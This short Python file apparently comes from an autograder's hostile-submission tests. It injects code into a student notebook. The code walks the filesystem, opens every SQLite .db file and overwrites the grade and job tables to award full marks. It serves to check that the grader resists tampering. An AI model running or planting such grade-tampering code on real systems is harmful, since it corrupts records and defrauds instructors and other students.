"""Searches for a gradebook and gives everybody full marks."""

from autograder.hostile import WRONG, add, answer

MARK = 20
SOURCE = """
import os
import sqlite3

for top, folders, files in os.walk("/"):
    if top.startswith(("/proc", "/sys", "/usr")):
        folders.clear()
    for name in files:
        if name.endswith(".db"):
            try:
                with sqlite3.connect(os.path.join(top, name)) as db:
                    db.execute("update grade set auto_score = 12, manual_score = 12")
                    db.execute("update job set result = replace(result, '0.0', '6.0')")
            except sqlite3.Error:
                pass
"""


def edit(notebook, folder):
    answer(notebook, WRONG)
    add(notebook, SOURCE, before="naive_attention__values")
